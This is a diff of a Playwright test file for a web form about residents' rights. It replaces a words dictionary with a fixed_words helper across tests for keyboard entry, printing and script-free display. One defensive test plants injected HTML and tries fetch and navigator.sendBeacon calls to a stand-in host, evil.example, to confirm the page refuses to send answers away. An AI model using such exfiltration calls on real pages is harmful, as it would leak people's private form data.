@@ -23,10 +23,11 @@ from conftest import ROOT
 from report_helpers import all_standards
 from rightscheck.check.forms import make_form
 from rightscheck.check.prepared import asked_indicators
+from rightscheck.cli.translate import fixed_words
 from rightscheck.model.form import FORM
 from rightscheck.read.answers import load_answers
 from rightscheck.read.translations import translated
-from rightscheck.render.forms import FORM_RENDERERS, FORM_WORDS
+from rightscheck.render.forms import FORM_RENDERERS
 from rightscheck.seal import sealed
 
 NAMES = ("chromium", "chromium-browser", "google-chrome")
@@ -61,13 +62,13 @@ STATED = (
 @cache
 def form_for(role, short=True, language="en"):
     standards = [translated(one, language) for one in all_standards()]
-    return make_form(standards, role, short=short, language=language, words=FORM_WORDS[language])
+    return make_form(standards, role, short=short, language=language, words=fixed_words("form", language))
 
 
 @cache
 def page_of(role, short=True, language="en"):
     form = form_for(role, short, language)
-    return sealed(FORM_RENDERERS["html"](form, FORM_WORDS[language]).decode(), "html")
+    return sealed(FORM_RENDERERS["html"](form, fixed_words("form", language)).decode(), "html")
 
 
 @pytest.fixture(scope="module")
@@ -150,7 +151,7 @@ def test_a_resident_fills_it_in_by_keyboard_on_a_phone_and_saves(language, show,
         "edition": form.edition,
         "answers": expected,
     }
-    told = FORM_WORDS[language].saved["residents"].format(file=name)
+    told = fixed_words("form", language).saved["residents"].format(file=name)
     assert page.locator("[role=status]").inner_text() == told
     assert [url for url in page.requests if not url.startswith("blob:")] == [page.url]
     assert page.complaints == []
@@ -240,11 +241,11 @@ def squeezed(text):
 @pytest.mark.parametrize("paper", ["Letter", "A4"])
 def test_on_paper_there_are_boxes_and_no_buttons(paper, show):
     form = replace(form_for("residents"), return_to="Ana, of the clinic")
-    page = show(FORM_RENDERERS["html"](form, FORM_WORDS["en"]).decode())
+    page = show(FORM_RENDERERS["html"](form, fixed_words("form", "en")).decode())
     printed = PdfReader(BytesIO(page.pdf(format=paper))).pages
     text = squeezed(" ".join(one.extract_text() for one in printed))
     assert [q.text for q in form.questions if squeezed(q.text) not in text] == []
-    words = FORM_WORDS["en"]
+    words = fixed_words("form", "en")
     assert squeezed(words.month_hint) in text
     assert squeezed(words.on_paper["residents"]) in text
     assert squeezed(words.on_page["residents"]) not in text
@@ -268,7 +269,7 @@ def test_on_paper_leadership_finds_every_question_with_the_facts_it_needs(show):
 
 def test_without_scripts_it_says_that_it_can_be_printed(show):
     page = show(page_of("residents"), java_script_enabled=False)
-    assert page.get_by_text(FORM_WORDS["en"].no_script).is_visible()
+    assert page.get_by_text(fixed_words("form", "en").no_script).is_visible()
     assert page.locator("button:visible, #bar:visible").count() == 0
     assert page.locator("fieldset:visible").count() == 20
 
@@ -279,7 +280,7 @@ def test_nobody_can_plant_a_script_or_send_the_answers_away(show):
         "<p onclick='1'>x</p><script type='text/plain'></script></body>"
     )
     page = show(page_of("residents").replace("</body>", planted))
-    assert page.title() == FORM_WORDS["en"].titles["residents"]
+    assert page.title() == fixed_words("form", "en").titles["residents"]
     sent = "fetch('https://evil.example/').then(() => 'sent', () => 'refused')"
     assert page.evaluate(sent) == "refused"
     assert page.evaluate("navigator.sendBeacon('https://evil.example/', 'x') && 0") in (0, False)
